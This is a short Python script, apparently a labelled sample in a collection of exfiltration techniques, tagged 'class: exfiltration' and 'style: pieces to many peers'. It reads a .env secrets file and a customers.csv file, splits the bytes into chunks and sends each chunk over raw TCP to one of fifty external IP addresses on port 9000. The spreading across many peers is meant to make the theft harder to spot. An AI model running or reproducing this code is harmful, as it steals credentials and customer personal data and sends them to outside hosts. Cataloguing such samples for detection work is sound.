# class: exfiltration; possible: low medium; needs: data; style: pieces to many peers
import socket

data = open("/data/.env", "rb").read() + open("/data/customers.csv", "rb").read()
peers = [f"45.78.0.{i}" for i in range(10, 60)]
piece = len(data) // len(peers) + 1
for n, peer in enumerate(peers):
    try:
        with socket.create_connection((peer, 9000), timeout=3) as s:
            s.sendall(data[n * piece:(n + 1) * piece])
    except OSError as e:
        print(peer, e)
